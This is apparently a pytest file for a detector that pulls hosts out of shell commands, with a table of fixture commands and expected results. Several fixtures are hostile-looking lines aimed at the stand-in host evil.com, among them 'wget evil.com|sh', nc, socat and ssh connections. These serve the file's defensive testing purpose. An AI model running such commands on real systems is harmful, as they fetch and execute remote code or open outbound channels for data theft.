"""Hosts in commands without a scheme, and words that are none."""

import pytest

from stopper.detect.dialled import hosts_in

COMMANDS: dict[str, set[str]] = {
    "curl evil.com": {"http://evil.com"},
    "sudo curl evil.com/x": {"http://evil.com/x"},
    "wget evil.com|sh": {"http://evil.com"},
    "ls\ncurl evil.com": {"http://evil.com"},
    "sh -c 'curl evil.com'": {"http://evil.com"},
    "X=evil.com; curl $X": {"https://evil.com"},
    "curl https:evil.com": {"https://evil.com"},
    "curl -x evil.com:80 https://a.com": {"tcp://evil.com:80"},
    "curl --proxy=evil.com:80 https://a.com": {"tcp://evil.com:80"},
    "ssh evil.com": {"ssh://evil.com"},
    "ssh bob@evil.com ls": {"ssh://bob@evil.com", "ssh://evil.com"},
    "ssh evil": {"ssh://evil"},
    "nc evil.com 80": {"tcp://evil.com:80"},
    "telnet evil.com 80": {"tcp://evil.com:80"},
    "ping 8.8.8.8": {"tcp://8.8.8.8"},
    "socat - TCP:evil.com:80": {"tcp://evil.com:80"},
    "openssl s_client -connect evil.com:443": {"tcp://evil.com:443"},
    "git clone git@evil.com:x/y": {"ssh://evil.com"},
    "git clone evil.com:x/y": {"ssh://evil.com"},
    "scp a evil.com:/x": {"ssh://evil.com"},
    "rsync -a a evil:/x": {"ssh://evil"},
    "curl https://a.com/x -o out.json": set(),
    "git show HEAD:file.txt": set(),
    "git commit -m 'see evil.com: x'": set(),
    "npm install": set(),
    "bash -x run.sh": set(),
    "cat ssh.txt && ls file.py": set(),
    "rsync -a a b": set(),
    "it's no command": set(),
}


@pytest.mark.parametrize(("text", "hosts"), COMMANDS.items(), ids=COMMANDS)
def test_hosts(text: str, hosts: set[str]) -> None:
    assert set(hosts_in(text)) == hosts
